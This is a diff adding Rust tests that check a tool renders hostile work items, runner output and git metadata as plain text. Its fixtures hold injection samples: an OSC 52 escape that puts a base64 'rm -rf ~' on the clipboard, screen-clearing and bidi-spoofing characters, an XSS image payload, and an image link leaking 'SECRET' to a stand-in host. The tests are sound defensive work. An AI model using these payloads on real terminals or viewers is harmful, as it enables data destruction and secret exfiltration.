@@ -1,0 +1,136 @@
+//! Text that reaches the person is text (issue 34): what a work item, a runner or the
+//! repository says reaches the document and the terminal with no escape sequence, no control
+//! character, no unmarked bidi control, no raw HTML and no live image or link.
+
+use pulldown_cmark::{Event, Options, Parser, Tag};
+
+use crate::util::{DOCUMENT, Interview, TempRepo};
+
+const SKIP_ALL: &str = r#"{ "interview_answers": 1, "gate": "n" }"#;
+
+/// A work item whose title and text write the clipboard (OSC 52), clear the screen, hold a NUL
+/// and turn the rest of the line around (U+202E).
+const HOSTILE_ITEM: &str = "# Export \u{1b}]52;c;cm0gLXJmIH4K\u{7}to CSV\u{1b}[2J now\u{0} \u{202E}fdp.exe\n\n\
+     Users want \u{1b}[2Jtheir data\u{0} as CSV \u{202E}soon.\n";
+
+/// What of [`HOSTILE_ITEM`] must never reach the person as it is.
+const RAW: [(&str, &str); 5] = [
+    ("an escape", "\u{1b}"),
+    ("a BEL", "\u{7}"),
+    ("a NUL", "\u{0}"),
+    ("a bidi control", "\u{202E}"),
+    ("the clipboard payload", "52;c;"),
+];
+
+fn assert_text_only(what: &str, text: &str) {
+    for (name, raw) in RAW {
+        assert!(!text.contains(raw), "{name} in {what}: {text:?}");
+    }
+}
+
+/// What a Markdown viewer would make live in `md`: raw HTML, images and links.
+fn live(md: &str) -> Vec<String> {
+    Parser::new_ext(md, Options::all())
+        .filter_map(|e| match e {
+            Event::Html(h) | Event::InlineHtml(h) => Some(format!("html {h}")),
+            Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
+            Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
+            _ => None,
+        })
+        .collect()
+}
+
+#[test]
+fn a_hostile_work_item_is_written_into_the_document_as_text() {
+    let repo = TempRepo::new();
+    repo.write("item.md", HOSTILE_ITEM);
+    Interview::intent(&repo, "7")
+        .from("item.md")
+        .runner("honest.sh")
+        .answers(SKIP_ALL)
+        .yes()
+        .run()
+        .exits(0);
+    let md = repo.read(DOCUMENT);
+    assert_text_only("the document", &md);
+    assert!(
+        md.contains("*Intent of 7: Export to CSV now \\<U+202E>fdp.exe*"),
+        "{md}"
+    );
+    assert!(
+        md.contains("> Users want their data as CSV \\<U+202E>soon."),
+        "{md}"
+    );
+}
+
+#[test]
+fn a_hostile_work_item_printed_with_out_dash_reaches_the_terminal_as_text() {
+    let repo = TempRepo::new();
+    repo.write("item.md", HOSTILE_ITEM);
+    let out = Interview::intent(&repo, "7")
+        .from("item.md")
+        .runner("honest.sh")
+        .answers(SKIP_ALL)
+        .yes()
+        .out("-")
+        .run()
+        .exits(0);
+    assert_text_only("standard output", &out.stdout);
+    assert_text_only("standard error", &out.stderr);
+    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
+}
+
+#[test]
+fn a_receipts_html_images_and_links_are_written_as_text() {
+    let repo = TempRepo::new();
+    Interview::of_work_item(&repo)
+        .runner("html-receipt.sh")
+        .answers(SKIP_ALL)
+        .yes()
+        .run()
+        .exits(0);
+    let md = repo.read(DOCUMENT);
+    assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+    assert!(!md.contains("![]("), "{md}");
+    // Shown, not loaded: the reader still sees what the runner wrote.
+    assert!(md.contains("\\<img src=x onerror=alert(1)>"), "{md}");
+    assert!(
+        md.contains("`https://example.invalid/?leak=SECRET`"),
+        "{md}"
+    );
+    assert!(md.contains("`https://example.invalid/bare`"), "{md}");
+}
+
+#[test]
+fn a_tag_an_author_and_a_commit_subject_reach_the_person_as_text() {
+    let repo = TempRepo::new();
+    let tag = "v1\u{202E}x";
+    repo.git(&["tag", tag]);
+    repo.write("src/a.rs", "pub fn a() {}\n");
+    repo.git(&["add", "-A"]);
+    repo.git(&[
+        "-c",
+        "user.name=Ev\u{202E}il \u{1b}]52;c;cm0gLXJmIH4K\u{7}",
+        "commit",
+        "-qm",
+        "Add a \u{1b}[2J<img src=x onerror=alert(1)> ![](https://example.invalid/?leak=SECRET)",
+    ]);
+    let out = Interview::reflect(&repo, tag)
+        .preset("builtin")
+        .answers(SKIP_ALL)
+        .yes()
+        .out("-")
+        .run()
+        .exits(0);
+    assert_text_only("standard output", &out.stdout);
+    assert_text_only("standard error", &out.stderr);
+    assert_eq!(live(&out.stdout), Vec::<String>::new(), "{}", out.stdout);
+    assert!(out.stdout.contains("v1\\<U+202E>x"), "{}", out.stdout);
+    let status = repo.run(&["status"]);
+    let shown = String::from_utf8_lossy(&status.stdout);
+    assert_text_only("interview status", &shown);
+    assert!(
+        shown.contains("INTERVIEW STATUS (reflect v1<U+202E>x)"),
+        "{shown}"
+    );
+}
